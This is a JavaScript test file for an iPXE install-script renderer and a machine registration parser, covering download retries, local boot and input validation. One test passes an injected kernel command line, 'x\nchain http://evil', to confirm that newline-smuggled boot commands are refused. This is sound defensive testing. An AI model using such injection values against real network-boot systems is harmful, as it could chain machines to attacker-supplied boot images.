import { test } from "node:test";
import assert from "node:assert/strict";
import {
  renderInstallScript,
  renderLocalBootScript,
  unsafeForScript,
} from "../../src/boot/script.js";
import { parseRegistration } from "../../src/registry/registration.js";

test("install script retries each download a bounded number of times", () => {
  const s = renderInstallScript({
    kernelUrl: "http://a/k",
    initrdUrl: "http://a/i",
    cmdline: "console=ttyS0 x=1",
    tries: 3,
  });
  assert.match(s, /^#!ipxe\n/);
  assert.equal(
    s.match(/^kernel http:\/\/a\/k initrd=initrd console=ttyS0 x=1 && goto initrd \|\|$/gm)?.length,
    3,
  );
  assert.equal(s.match(/^initrd http:\/\/a\/i && goto boot \|\|$/gm)?.length, 3);
  assert.match(s, /^exit 1$/m);
});

test("local boot script exits to the firmware", () => {
  assert.equal(
    renderLocalBootScript()
      .split("\n")
      .filter((l) => l && !l.startsWith("#"))
      .join(),
    "exit 1",
  );
});

test("newlines and ${ are refused, in the renderer and at registration", () => {
  assert.match(unsafeForScript("a\nb") ?? "", /newline/);
  assert.match(unsafeForScript("a ${net0/mac}") ?? "", /expansion/);
  assert.equal(unsafeForScript("console=ttyS0,115200 quiet"), null);
  assert.throws(
    () =>
      renderInstallScript({
        kernelUrl: "k",
        initrdUrl: "i",
        cmdline: "x\nchain http://evil",
        tries: 1,
      }),
    /newline/,
  );
  const base = { kernel: "/k", initrd: "/i" };
  assert.throws(
    () => parseRegistration({ ...base, cmdline: "a\nb" }),
    /cmdline: contains a newline/,
  );
  assert.throws(() => parseRegistration({ ...base, cmdline: "${x}" }), /cmdline: contains "\$\{"/);
  assert.throws(
    () => parseRegistration({ ...base, cmdline: "landscaper.token=x" }),
    /cmdline: landscaper\./,
  );
  assert.throws(
    () => parseRegistration({ ...base, kernel: "relative/k" }),
    /kernel: expected an absolute path/,
  );
  assert.throws(() => parseRegistration({ ...base, colour: "red" }), /colour: unknown field/);
  assert.throws(() => parseRegistration({ initrd: "/i" }), /kernel: required/);
  assert.throws(() => parseRegistration({ ...base, hostname: "bad_name" }), /hostname/);
  assert.throws(
    () => parseRegistration({ ...base, job: { steps: [{ phase: "x" }] } }),
    /job\.steps\[0\]\.run/,
  );
  assert.throws(
    () =>
      parseRegistration({ ...base, installationHostKey: { publicKey: "nope", privateKey: "x" } }),
    /installationHostKey\.publicKey/,
  );
});
